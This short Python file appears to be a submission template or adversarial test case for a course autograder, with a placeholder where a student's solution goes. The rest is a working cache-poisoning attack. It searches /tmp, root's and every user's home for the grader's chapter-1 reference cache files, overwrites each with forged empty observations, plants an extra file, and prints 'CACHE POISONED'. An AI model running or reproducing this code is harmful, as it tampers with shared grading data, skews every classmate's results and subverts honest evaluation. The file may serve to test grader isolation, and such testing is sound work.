"""Rewrites the reference cache (grader/reference_cache.py: the reference's observations kept on
disk by `grade chapterN` and `grade validate`), so that a later run judges every classmate
against answers of its choosing: every cache file of chapter 1 it can find (the test run's
$TF_GRADER_CACHE under /tmp, root's and any home's ~/.cache/tf-grader) overwritten, and a new
one planted beside them."""
import glob
import os

{{SOLUTION}}

_PLANTED = '{"key": "%s", "observations": {}}'
_places = glob.glob("/tmp/tf-grader-test-cache-*") + glob.glob("/root/.cache/tf-grader") + glob.glob("/home/*/.cache/tf-grader")
for _folder in _places or ["/root/.cache/tf-grader"]:
    for _path in glob.glob(os.path.join(_folder, "chapter1-*.json")) + [os.path.join(_folder, "chapter1-planted.json")]:
        try:
            with open(_path, "w") as _f:
                _f.write(_PLANTED % "forged")
            print(f"CACHE POISONED: {_path}")
        except OSError as _exc:
            print(f"cache {_path}: {_exc.strerror}")
